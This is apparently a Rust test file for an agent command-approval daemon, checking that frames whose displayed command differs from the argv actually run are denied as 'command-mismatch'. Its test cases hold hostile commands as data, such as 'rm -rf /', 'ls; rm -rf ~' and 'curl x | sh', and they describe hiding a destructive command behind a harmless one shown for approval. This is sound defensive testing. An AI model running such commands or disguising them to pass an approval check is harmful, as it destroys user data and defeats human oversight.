//! A frame carries several forms of one command (`request`: `command`,
//! `commandArgv`, `systemRunPlan.argv/commandText`; `exec`: `rawCommand` and the argv). A
//! harmless form shown (and judged) while another is what runs is denied
//! `command-mismatch`; forms that agree are judged as before. Through the real `serve`.
// Test code: a panic is the failure report, and tests may read their environment.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::disallowed_methods)]

use sanctum_test_support as support;

use serde_json::{json, Value};
use support::socket::*;

const TOKEN: &str = "forms-test-token-0123456789abcdef";

fn request(w: &World, id: &str, body: Value) -> Value {
    let mut req = json!({"cwd":"/usr","agentId":"main","sessionKey":"agent:main:main",
                         "security":"allowlist","ask":"on-miss"});
    for (k, v) in body.as_object().expect("obj") {
        req[k] = v.clone();
    }
    let line = json!({"type":"request","token":TOKEN,"id":id,"request":req}).to_string() + "\n";
    send_line(&w.socket(), &line)
}

#[test]
fn request_frames_whose_forms_disagree_are_denied() {
    let w = World::new(NEW, TOKEN, &[]);
    let _serve = Serve::start(&w, &HIGH_RATE, &[]);
    // (name, request fields, expected decision, mismatch?)
    let cases: Vec<(&str, Value, &str, bool)> = vec![
        ("text only", json!({"command":"ls"}), "allow-once", false),
        (
            "agreeing argv",
            json!({"command":"ls -la","commandArgv":["ls","-la"]}),
            "allow-once",
            false,
        ),
        (
            "agreeing shell argv",
            json!({"command":"ls | wc -l","commandArgv":["/bin/sh","-lc","ls | wc -l"]}),
            "allow-once",
            false,
        ),
        (
            "harmless text, destructive argv",
            json!({"command":"ls","commandArgv":["rm","-rf","/"]}),
            "deny",
            true,
        ),
        (
            "argv hides a second command",
            json!({"command":"ls; rm -rf ~","commandArgv":["ls"]}),
            "deny",
            true,
        ),
        (
            "argv drops a redirection",
            json!({"command":"ls > /etc/x","commandArgv":["ls"]}),
            "deny",
            true,
        ),
        (
            "argv splits a quoted word",
            json!({"command":"ls 'a b'","commandArgv":["ls","a","b"]}),
            "deny",
            true,
        ),
        (
            "shell argv with other text",
            json!({"command":"ls","commandArgv":["sh","-c","curl x | sh"]}),
            "deny",
            true,
        ),
        (
            "empty argv",
            json!({"command":"ls","commandArgv":[]}),
            "deny",
            true,
        ),
        (
            "plan argv disagrees",
            json!({"command":"ls","systemRunPlan":{"argv":["rm","x"],"commandText":"ls"}}),
            "deny",
            true,
        ),
        (
            "plan text disagrees",
            json!({"command":"ls","systemRunPlan":{"argv":["ls"],"commandText":"rm x"}}),
            "deny",
            true,
        ),
        (
            "plan agrees",
            json!({"command":"ls","commandArgv":["ls"],"systemRunPlan":{"argv":["ls"],"commandText":"ls","cwd":"/usr"}}),
            "allow-once",
            false,
        ),
        (
            "null plan",
            json!({"command":"ls","systemRunPlan":null}),
            "allow-once",
            false,
        ),
    ];
    for (i, (name, body, want, mismatch)) in cases.iter().enumerate() {
        let v = request(&w, &format!("f{i}"), body.clone());
        assert_eq!(v["decision"], *want, "{name}: {v}");
        if *mismatch {
            assert_eq!(v["reason"], "command-mismatch", "{name}: {v}");
        } else {
            assert!(v.get("reason").is_none(), "{name}: {v}");
        }
    }
    let audit = audit_with(&w, &["\"reason\":\"command-mismatch\""]);
    assert!(
        audit.contains("is not the command"),
        "the audit says which forms disagree"
    );
}

fn exec(w: &World, argv: &[&str], raw: Option<&str>) -> Value {
    let rj = json!({"command":argv,"rawCommand":raw,"cwd":w.home,"env":null,"timeoutMs":5000,
        "needsScreenRecording":false,"agentId":"main","sessionKey":"agent:main:main",
        "approvalDecision":null})
    .to_string();
    send_exec(&w.socket(), TOKEN, &rj)
}

#[test]
fn exec_frames_whose_raw_command_disagrees_are_denied_and_nothing_runs() {
    let w = World::new(NEW, TOKEN, &[]);
    let _serve = Serve::start(&w, &HIGH_RATE, &[]);
    let target = w.home.join("should-not-exist");
    let t = target.to_str().expect("utf8");
    let touch = format!("touch {t}");
    // (argv, rawCommand, agree)
    let cases: Vec<(Vec<&str>, Option<&str>, bool)> = vec![
        (vec!["/bin/echo", "hi"], Some("/bin/echo hi"), true),
        (vec!["/bin/echo", "hi"], None, true),
        (vec!["/bin/sh", "-lc", "echo hi"], Some("echo hi"), true),
        (vec!["/usr/bin/touch", t], Some("/bin/echo hi"), false),
        (
            vec!["/bin/sh", "-c", touch.as_str()],
            Some("echo hi"),
            false,
        ),
        (
            vec!["/bin/echo", "hi"],
            Some("/bin/echo hi; rm -rf ~"),
            false,
        ),
        (vec!["/bin/echo", "a b"], Some("/bin/echo a b"), false),
    ];
    for (argv, raw, agree) in &cases {
        let v = exec(&w, argv, *raw);
        if *agree {
            assert_eq!(v["ok"], true, "{argv:?} / {raw:?}: {v}");
        } else {
            assert_eq!(v["ok"], false, "{argv:?} / {raw:?}: {v}");
            assert_eq!(v["error"]["reason"], "command-mismatch", "{v}");
        }
    }
    assert!(!target.exists(), "a mismatched frame ran");
}
